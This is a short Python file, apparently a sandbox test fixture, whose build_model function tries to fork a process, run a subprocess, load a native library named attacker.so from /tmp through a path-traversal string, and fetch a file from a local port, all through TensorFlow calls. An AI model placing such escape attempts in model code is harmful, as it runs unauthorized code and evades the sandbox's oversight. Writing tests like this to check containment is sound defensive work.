"""Starts processes and Python code of its own through TensorFlow."""

import os
import subprocess

import tensorflow as tf
from accomplice import PORT, attempt_each


def build_model(*args, **kwargs):
    attempt_each(
        function=lambda: tf.py_function(os.fork, [], tf.int64).numpy(),
        run=lambda: subprocess.run(["/bin/true"]).returncode,
        library=lambda: tf.load_op_library("/lib/x86_64-linux-gnu/../../tmp/attacker.so"),
        download=lambda: tf.keras.utils.get_file("x", f"http://127.0.0.1:{PORT}/x"),
    )
